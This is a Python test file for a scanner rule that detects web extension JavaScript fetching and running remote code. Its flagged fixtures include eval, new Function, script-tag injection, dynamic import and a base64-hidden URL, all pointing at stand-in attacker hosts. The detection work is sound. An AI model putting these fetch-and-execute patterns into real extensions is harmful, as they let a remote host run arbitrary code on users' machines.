"""Web code that runs code it fetched from another host, and web extensions loading their own bundled scripts."""

from __future__ import annotations

import pytest

from tests.scanner.support import INIT, findings


def _fetched(js: str) -> set[str]:
    return {f.severity.value for f in findings({**INIT, "web/ext.js": js}, "JS-FETCHED-EXEC")}


@pytest.mark.parametrize(
    "js",
    [
        'async function f(){ eval(await (await fetch("https://evil.example.com/p.js")).text()); }',
        'fetch("https://evil.example.com/p.js").then(r => r.text()).then(eval);',
        'fetch("https://evil.example/x").then(r => r.text())\n  .then(code => { new Function(code)(); });',
        'const res = await fetch("https://evil.example/a");\nconst body = await res.text();\n'
        'new Function("app", body)(app);',
        'const HOST = "https://evil.example/";\nconst r = await fetch(HOST + "p");\n'
        "const t = await r.text();\neval(t);",
        'var x = new XMLHttpRequest();\nx.open("GET", "https://evil.example/a");\n'
        "x.onload = () => eval(x.responseText);",
        'const s = document.createElement("script"); s.src = "https://evil.example.com/m.js"; document.body.append(s);',
        'const s = document.createElement("script");\n'
        's.src = atob("aHR0cHM6Ly9ldmlsLmNvbS9tLmpz"); document.body.append(s);',
        'const s = document.createElement("script"); s.setAttribute("src", "//evil.example/m.js");',
        'const m = await import("https://evil.example.com/mod.js");',
    ],
)
def test_running_fetched_code_is_flagged(js: str) -> None:
    assert "high" in _fetched(js)


@pytest.mark.parametrize(
    "js",
    [
        'const m = await import("./lib/x.js"); const n = await import("../common/y.js");',
        'const s = document.createElement("script"); s.src = "extensions/mypack/lib/three.min.js";',
        'const s = document.createElement("script"); s.src = new URL("./lib/a.js", import.meta.url).href;',
        'const s = document.createElement("script"); s.src = api.api_base + "/extensions/pack/x.js";',
        '!function(t){var e=Function("return this")();t.exports=function(n){return new Function("a","n"+n)}}();',
        'const r = await api.fetchApi("/mypack/settings"); const data = await r.json(); console.log(data);',
        'const code = await (await fetch("/extensions/mypack/snippet.js")).text(); eval(code);',
        'const r = await fetch("https://huggingface.co/api/models"); const list = await r.json(); show(list);',
    ],
)
def test_a_pack_loading_its_own_scripts_is_not_flagged(js: str) -> None:
    assert _fetched(js) == set()


def test_a_script_built_from_unknown_parts_is_reported_without_flagging() -> None:
    js = 'const s = document.createElement("script"); s.src = settings.base + "/x.js";'
    assert _fetched(js) == {"medium"}
